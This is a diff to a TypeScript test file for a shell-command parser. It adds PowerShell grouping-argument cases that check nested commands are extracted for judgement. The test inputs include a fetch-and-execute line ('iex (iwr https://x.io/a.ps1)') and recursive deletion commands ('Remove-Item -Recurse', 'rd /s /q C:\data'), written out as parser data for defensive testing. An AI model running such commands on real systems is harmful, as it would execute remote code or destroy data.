@@ -107,7 +107,19 @@ const lookAlikes: ParseCase[] = [
   { line: 'git commit -m "cmd /c rd /s /q C:\\data"', commands: [{ argv: ['git', 'commit', '-m', 'cmd /c rd /s /q C:\\data'] }] },
 ];
 
+/** PowerShell's grouping argument `cmd (…)`: a sh syntax error, read like `$( … )` so the commands inside are judged. */
+const grouping: ParseCase[] = [
+  { line: 'iex (iwr https://x.io/a.ps1)', commands: [{ argv: ['iwr', 'https://x.io/a.ps1'], via: ['$()'] }, { argv: ['iex', '(iwr https://x.io/a.ps1)'] }] },
+  { line: 'Write-Host (Get-Date)', commands: [{ argv: ['Get-Date'], via: ['$()'], name: 'get-date' }, { argv: ['Write-Host', '(Get-Date)'], name: 'write-host' }] },
+  { line: 'Write-Output (Remove-Item -Recurse x) done', commands: [{ argv: ['Remove-Item', '-Recurse', 'x'], via: ['$()'], ...removeItem }, { argv: ['Write-Output', '(Remove-Item -Recurse x)', 'done'], name: 'write-output' }] },
+  // Not a grouping: a function definition, bash's timed subshell, and a subshell after a separator.
+  { line: 'f () { rm x; }', commands: [{ argv: ['rm', 'x'] }] },
+  { line: 'time (rm x)', commands: [{ argv: ['time'] }, { argv: ['rm', 'x'] }] },
+  { line: 'ls; (rm x)', commands: [{ argv: ['ls'] }, { argv: ['rm', 'x'] }] },
+];
+
 describe('shell parser: powershell -Command', () => runCases(powershell));
+describe('shell parser: PowerShell grouping arguments', () => runCases(grouping));
 describe('shell parser: powershell -EncodedCommand', () => runCases(encodedCommands));
 describe('shell parser: cmd /c', () => runCases(cmd));
 describe('shell parser: Windows shell look-alikes', () => runCases(lookAlikes));
